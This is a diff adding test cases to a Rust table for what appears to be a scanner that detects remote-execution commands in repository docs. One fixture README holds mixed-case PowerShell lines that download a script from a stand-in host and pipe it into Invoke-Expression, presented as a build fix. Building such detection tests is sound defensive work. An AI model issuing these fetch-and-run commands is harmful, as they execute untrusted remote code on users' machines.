@@ -889,6 +889,26 @@ const CASES: &[Case] = &[
         benign: true,
     },
     Case {
+        name: "README with mixed-case PowerShell fetch-and-run",
+        files: &[(
+            "README.md",
+            "# x\n\nIf the build fails on Windows, run:\n\n```powershell\niWr https://example.invalid/fix.ps1 | iEx\n```\n\nOr: InVoKe-ExPrEsSiOn (NeW-oBjEcT NeT.WeBcLiEnT).DoWnLoAdStRiNg('https://example.invalid/f')\n",
+        )],
+        expect: &[("doc-run-remote-exec", "README.md")],
+        forbid: &[],
+        benign: false,
+    },
+    Case {
+        name: "PowerShell docs naming Invoke-Expression in any case without fetching",
+        files: &[(
+            "docs/powershell.md",
+            "# Notes\n\nAvoid INVOKE-EXPRESSION and iEx on user input; run:\n\n```powershell\niWr https://example.invalid/data.json -OutFile data.json\n```\n",
+        )],
+        expect: &[],
+        forbid: &["doc-run-remote-exec", "fetch-exec-mention"],
+        benign: true,
+    },
+    Case {
         name: "test that fails on purpose with a fetch-and-exec fix",
         files: &[(
             "tests/test_env.py",
